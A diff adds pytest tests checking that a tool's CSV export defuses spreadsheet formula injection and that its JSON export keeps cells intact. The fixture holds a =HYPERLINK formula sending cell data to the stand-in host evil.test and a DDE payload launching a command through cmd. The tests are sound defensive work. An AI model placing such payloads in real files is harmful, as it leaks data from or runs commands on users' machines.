@@ -464,3 +464,42 @@ def test_a_wrong_suffix_is_answered_with_a_name_that_would_work(
     assert ok(
         make_ctx(demo_path, tmp_path), "exportCsv", query=QUERY, path=suggested.split("e.g. ")[1]
     )
+
+
+HOSTILE_CELLS = (
+    'SELECT \'=HYPERLINK("http://evil.test/?"&A1,"invoice")\' AS link, -5 AS debit, '
+    "'+1 555 0100' AS phone, '@SUM(1+1)*cmd|'' /C calc''!A0' AS dde, 'plain' AS note, "
+    "'-2+3' AS sum, 2.5 AS amount"
+)
+
+
+def test_a_csv_export_writes_formula_cells_as_text_and_says_so(
+    demo_path: Path, tmp_path: Path
+) -> None:
+    """Table cells are untrusted: a `=HYPERLINK(...)` cell would run in the accountant's
+    spreadsheet. Numbers stay numbers; the result tells the model to tell the user."""
+    import csv
+
+    ctx = make_ctx(demo_path, tmp_path)
+    result = ok(ctx, "exportCsv", query=HOSTILE_CELLS, path="for_accountant.csv")
+    with open(result["path"], newline="", encoding="utf-8") as f:
+        (row,) = list(csv.DictReader(f))
+    assert row["link"] == '\'=HYPERLINK("http://evil.test/?"&A1,"invoice")'
+    assert row["phone"] == "'+1 555 0100" and row["dde"].startswith("'@SUM(")
+    assert row["sum"] == "'-2+3"
+    assert (row["debit"], row["note"], row["amount"]) == ("-5", "plain", "2.5")
+    assert "4 text cells" in result["formulas"] and "keep_formulas" in result["formulas"]
+
+    exact = ok(ctx, "exportCsv", query=HOSTILE_CELLS, path="exact.csv", keep_formulas=True)
+    with open(exact["path"], newline="", encoding="utf-8") as f:
+        (row,) = list(csv.DictReader(f))
+    assert row["link"].startswith("=HYPERLINK(") and row["phone"] == "+1 555 0100"
+    assert "formulas" not in exact
+
+
+def test_a_json_export_keeps_every_cell_exactly(demo_path: Path, tmp_path: Path) -> None:
+    ctx = make_ctx(demo_path, tmp_path)
+    result = ok(ctx, "exportJson", query=HOSTILE_CELLS, path="cells.json")
+    (row,) = json.loads(Path(result["path"]).read_text(encoding="utf-8"))
+    assert row["link"].startswith("=HYPERLINK(") and row["debit"] == -5
+    assert "formulas" not in result
